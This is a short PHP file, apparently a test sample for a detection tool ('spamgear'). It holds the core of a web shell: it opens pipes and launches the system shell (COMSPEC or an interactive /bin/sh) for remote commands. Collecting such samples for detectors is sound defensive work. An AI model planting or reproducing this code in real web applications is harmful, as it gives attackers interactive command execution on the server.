<?php
// spamgear test sample: a web terminal that starts the system shell with no
// script (COMSPEC on Windows, an interactive sh elsewhere) for later commands.
$spec = array(0 => array('pipe', 'r'), 1 => array('pipe', 'w'), 2 => array('pipe', 'w'));
if (DIRECTORY_SEPARATOR === '\\') {
    $proc = proc_open($_SERVER['COMSPEC'], $spec, $pipes);
} else {
    $proc = proc_open('/bin/sh -i', $spec, $pipes);
}
